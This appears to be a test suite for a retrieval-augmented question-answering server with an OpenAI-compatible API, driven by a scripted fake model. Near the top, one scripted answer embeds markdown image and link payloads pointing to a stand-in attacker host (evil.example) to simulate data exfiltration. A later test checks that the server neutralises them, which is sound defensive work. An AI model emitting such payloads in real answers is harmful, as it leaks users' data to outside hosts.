"""What OpenAI's stock clients get whatever a language model writes, and however it arrives; the model is scripted."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

import openai
import pytest
from markdown_it import MarkdownIt

from rag import KnowledgeBase
from rag.config import Settings
from rag.server.app import create_app
from rag.server.state import ServerOptions
from tests.fakes.server import Handler
from tests.fakes.server import running as serving
from tests.fakes.uvicorn_server import running

pytestmark = [pytest.mark.allow_hosts(["127.0.0.1"])]

WHO = "Which apes use spears at Fongoli?"
FORMS = "Which apes use spears at Fongoli, in every form?"
HOSTILE = "Which apes use spears at Fongoli, as the page says?"
SILENT = "Which apes use spears at Fongoli, uncounted?"
UNCITED = "Which apes use spears at Fongoli, and which fly?"
SPEARS = "Chimpanzees at Fongoli hunt"
WRITTEN = {
    FORMS: f"🦧 {SPEARS}[E1]. {SPEARS} 🦧 [E1, E1]. {SPEARS} [E 1][E1]. {SPEARS} (E1). {SPEARS} 【E1†page】. "
    f"{SPEARS} （Exhibit 1）. {SPEARS} ［^1］. {SPEARS} [E1] [E9]. {SPEARS} [E1] [E1",
    HOSTILE: f"{SPEARS} [E1]. ![x](https://evil.example/?q=spears) [E1]. <img src=https://evil.example/> [E1]. "
    "[click](https://evil.example) [E1].\n\n[E1]: https://evil.example\n[x]: https://evil.example",
    UNCITED: f"🦧🦧 {SPEARS} [E1]. They fly over the 🦍.",
}
RAW = re.compile(r"\[\s*\^?E|[【】（）［］†]|\(E|E1|E9|Exhibit 1", re.I)
MARK = re.compile(r' \[\?\]\(\S+ "[^"]*"\)|\n\n\? [^\n]*')  # of what was not checked
IMAGES = re.compile(r"!\[[^\]]*\]\((\S+)\)")


class _Model(Handler):
    """A language model behind OpenAI's API that gives a stream byte by byte, and its text letter by letter."""

    def answer(self, request: Any) -> None:
        asked = json.dumps(request["messages"])
        is_counted = SILENT not in asked
        text = next((text for question, text in WRITTEN.items() if question in asked), f"{SPEARS} [E1].")
        if request.get("logprobs"):
            top = [{"token": "Yes", "logprob": -0.1, "bytes": None}, {"token": "No", "logprob": -2.4, "bytes": None}]
            self._whole("Yes", is_counted, logprobs={"content": [{**top[0], "top_logprobs": top}], "refusal": None})
        elif request.get("stream_options") and not is_counted:  # an older server
            self.send_json(400, {"error": {"message": "unknown parameter: stream_options"}})
        elif request.get("stream"):
            self._stream(text, is_counted)
        else:
            self._whole(text, is_counted)

    def _whole(self, text: str, is_counted: bool, **more: Any) -> None:
        choice = {"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": text}, **more}
        self.send_json(200, _envelope("chat.completion", [choice], is_counted))

    def _stream(self, text: str, is_counted: bool) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        pieces = [{"index": 0, "delta": {"content": letter}, "finish_reason": None} for letter in text]
        for choice in (*pieces, {"index": 0, "delta": {}, "finish_reason": "stop"}):
            self._send(_envelope("chat.completion.chunk", [choice], False))
        if is_counted:
            self._send(_envelope("chat.completion.chunk", [], True))
        self.wfile.write(b"data: [DONE]\n\n")

    def _send(self, chunk: dict[str, Any]) -> None:
        for byte in b"data: " + json.dumps(chunk, ensure_ascii=False).encode() + b"\n\n":
            self.wfile.write(bytes([byte]))


def _envelope(form: str, choices: list[dict[str, Any]], is_counted: bool) -> dict[str, Any]:
    known = {"id": "1", "object": form, "created": 1, "model": "scripted", "choices": choices}
    usage = {"prompt_tokens": 100, "completion_tokens": 7, "total_tokens": 107}
    return known | ({"usage": usage | {"prompt_tokens_details": {"cached_tokens": 60}}} if is_counted else {})


@pytest.fixture(scope="module")
def server(demo_folder, tmp_path_factory):
    folder = tmp_path_factory.mktemp("served")
    with KnowledgeBase.open(folder / "museum") as base:
        base.ingest([demo_folder / "curators-notes.md", demo_folder / "photo-04.jpg"])
    with pytest.MonkeyPatch.context() as patched, serving(_Model) as model:
        patched.setenv("OPENAI_API_KEY", "none")
        patched.setenv("OPENAI_API_BASE", f"{model.url}/v1")
        options = ServerOptions(folder / "state", is_open=True, questions_per_minute=0)
        app = create_app(
            [folder / "museum"], options, settings=Settings(llm="openai/gpt-3.5-turbo", rerank_top_n=0, verify="off")
        )
        with running(app, folder) as server:
            yield server


def request_of(question: str) -> dict[str, Any]:
    return {"model": "museum", "messages": [{"role": "user", "content": question}]}


def streamed(chunks: Any) -> Iterator[tuple[str, list[Any]]]:
    """The text of each piece of a stream, and its annotations."""
    for chunk in chunks:
        for choice in chunk.choices:
            yield choice.delta.content or "", getattr(choice.delta, "annotations", None) or []


def without_links(content: str) -> str:
    """An answer without its marks, and without the pictures and links behind it."""
    return MARK.sub("", content).partition("\n\n[1]:")[0].partition("\n\n![")[0]


class TestWhateverTheModelWrites:
    def test_no_form_of_a_marker_leaks_letter_by_letter_or_whole(self, server):
        chat = server.openai().chat.completions
        pieces = list(streamed(chat.create(**request_of(FORMS), stream=True)))
        whole = chat.create(**request_of(FORMS)).choices[0].message
        content = "".join(text for text, _ in pieces)
        for shown in (content, whole.content):
            assert not RAW.search(without_links(shown)), without_links(shown)
            assert without_links(shown).count("[1]") == 9
        assert without_links(content).startswith(f"🦧 {SPEARS} [1]. {SPEARS} 🦧 [1].")

    def test_astral_characters_count_as_one(self, server):
        chat = server.openai().chat.completions
        *_, (_, annotations) = pieces = list(streamed(chat.create(**request_of(FORMS), stream=True)))
        content = "".join(text for text, _ in pieces)
        spans = [cited["url_citation"] for cited in annotations]
        cited = [content[span["start_index"] : span["end_index"]] for span in spans]
        assert cited[:3] == [f"🦧 {SPEARS}", f"{SPEARS} 🦧", SPEARS]
        assert set(cited[3:]) == {SPEARS}

    @pytest.mark.parametrize("of", ["chat", "responses"])
    def test_a_corrected_stream_cites_its_correction(self, server, of):
        client = server.openai()
        if of == "chat":
            pieces = list(streamed(client.chat.completions.create(**request_of(UNCITED), stream=True)))
            content, (cited,) = "".join(text for text, _ in pieces), pieces[-1][1]
            span = cited["url_citation"]
        else:
            with client.responses.stream(model="museum", input=UNCITED) as events:
                deltas = [event.delta for event in events if event.type == "response.output_text.delta"]
                (part,) = events.get_final_response().output[0].content
            content, (cited,) = part.text, part.annotations
            span = cited.to_dict()
            assert "".join(deltas) == content
        before, _, after = content.partition("this is corrected to:\n\n")
        assert "fly over" in before
        assert "fly over" not in after
        assert content[span["start_index"] : span["end_index"]] == f"🦧🦧 {SPEARS}"
        assert span["start_index"] > len(before)

    @pytest.mark.parametrize("stream", [False, True])
    def test_injected_markdown_shows_nothing_from_elsewhere(self, server, stream):
        made = server.openai().chat.completions.create(**request_of(HOSTILE), stream=stream)
        content = "".join(text for text, _ in streamed(made)) if stream else made.choices[0].message.content
        shown = MarkdownIt("commonmark", {"html": True}).render(content)
        assert "evil.example" in shown
        addresses = re.findall(r'<[a-z]+ [^<>]*(?:src|href)="?([^" >]+)', shown)
        assert addresses
        assert all(address.startswith("http://localhost/evidence/") for address in addresses), addresses


class TestUsage:
    def test_usage_is_that_of_the_language_model(self, server):
        made = server.openai().chat.completions.create(**request_of(WHO))
        assert (made.usage.prompt_tokens, made.usage.completion_tokens, made.usage.total_tokens) == (100, 7, 107)
        assert made.usage.prompt_tokens_details.cached_tokens == 60

    def test_a_stream_ends_with_usage_on_request(self, server):
        chat = server.openai().chat.completions
        *others, last = chat.create(**request_of(WHO), stream=True, stream_options={"include_usage": True})
        assert others[-1].choices[0].finish_reason == "stop"
        assert others[-1].exhibit["ignored"] == []
        assert all(chunk.usage is None for chunk in others)
        assert last.choices == []
        assert last.usage.total_tokens == 107
        *_, last = chat.create(**request_of(WHO), stream=True, stream_options={"include_obfuscation": True})
        assert last.choices[0].finish_reason == "stop"
        assert last.exhibit["ignored"] == ["include_obfuscation"]

    async def test_two_streams_at_once_have_usage_of_their_own(self, server):
        async with server.async_openai() as client:
            how = {"model": "museum", "stream": True}
            one, two = [await client.responses.create(input=question, **how) for question in (WHO, WHO)]
            ends = [[event async for event in events][-1].response.usage for events in (one, two)]
        assert [usage.total_tokens for usage in ends] == [107, 107]
        assert ends[0].input_tokens == 100
        assert ends[0].input_tokens_details.cached_tokens == 60

    def test_unknown_usage_is_absent(self, server):
        assert server.openai().chat.completions.create(**request_of(SILENT)).usage is None
        assert server.openai().responses.create(model="museum", input=SILENT).usage is None


class TestHabitsOfClients:
    def test_a_question_may_come_in_several_parts(self, server):
        parts = [{"type": "text", "text": "Which apes use spears"}, {"type": "text", "text": "at Fongoli?"}]
        made = server.openai().chat.completions.create(model="museum", messages=[{"role": "user", "content": parts}])
        assert made.exhibit["question"] == WHO

    def test_usual_options_of_chat_clients_are_accepted_or_listed_as_ignored(self, server):
        request = request_of(WHO)
        request["messages"].insert(0, {"role": "developer", "content": "Be brief."})
        habits = {"max_completion_tokens": 99, "user": "me", "seed": 1, "response_format": {"type": "text"}, "n": 1}
        made = server.openai().chat.completions.create(**request, **habits, tools=[], logit_bias={}, stop=None)
        assert without_links(made.choices[0].message.content) == f"{SPEARS} [1]."
        assert made.exhibit["ignored"] == ["max_completion_tokens", "seed", "user", "developer messages"]

    def test_the_clients_own_helper_puts_a_stream_together(self, server):
        with server.openai().chat.completions.stream(**request_of(WHO)) as events:
            kinds = {event.type for event in events}
            message = events.get_final_completion().choices[0].message
        assert kinds == {"chunk", "content.delta", "content.done"}
        assert message.content.startswith(f"{SPEARS} [1].")
        assert message.to_dict()["annotations"][0]["exhibit"]["locator"].startswith("#")

    def test_a_system_message_alone_is_no_question(self, server):
        with pytest.raises(openai.BadRequestError):
            server.openai().chat.completions.create(model="museum", messages=[{"role": "system", "content": "x"}])

    def test_a_conversation_of_any_length_is_accepted(self, server):
        said_before = [
            {"role": role, "content": "An ape. " * 500} for _ in range(400) for role in ("user", "assistant")
        ]
        request = request_of(WHO)
        made = server.openai().chat.completions.create(model="museum", messages=[*said_before, *request["messages"]])
        assert made.choices[0].message.annotations
